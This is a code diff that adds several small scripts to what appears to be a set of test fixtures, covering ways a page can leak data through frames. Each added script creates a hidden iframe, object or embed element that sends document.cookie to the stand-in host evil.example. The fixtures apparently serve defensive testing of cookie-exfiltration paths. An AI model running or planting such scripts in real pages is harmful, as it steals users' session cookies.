@@ -1538,6 +1538,33 @@ export const MAIN_WORLD_SCRIPTS = {
   document.body.appendChild(frame);
   frame.src = 'https://evil.example/frame-fragment.html#' + encodeURIComponent(document.cookie);
 })();`,
+  /** The same fragment route by the other ways a frame, an <object> or an <embed> is given a page. */
+  'stranger-frame-markup': `(() => {
+  document.body.insertAdjacentHTML(
+    'beforeend',
+    '<iframe hidden src="https://evil.example/frame-markup.html#' + encodeURIComponent(document.cookie) + '"></iframe>',
+  );
+})();`,
+  'stranger-frame-attribute': `(() => {
+  const frame = document.createElement('iframe');
+  frame.hidden = true;
+  document.body.appendChild(frame);
+  frame.setAttribute('src', 'https://evil.example/frame-attribute.html#' + encodeURIComponent(document.cookie));
+})();`,
+  'stranger-frame-object': `(() => {
+  const object = document.createElement('object');
+  object.type = 'text/html';
+  object.width = object.height = 1;
+  document.body.appendChild(object);
+  object.data = 'https://evil.example/frame-object.html#' + encodeURIComponent(document.cookie);
+})();`,
+  'stranger-frame-embed': `(() => {
+  const embed = document.createElement('embed');
+  embed.type = 'text/html';
+  embed.width = embed.height = 1;
+  embed.src = 'https://evil.example/frame-embed.html#' + encodeURIComponent(document.cookie);
+  document.body.appendChild(embed);
+})();`,
 
   /** A srcdoc frame whose own inline script sends the cookie with its realm's fetch. */
   'srcdoc-frame': `(() => {
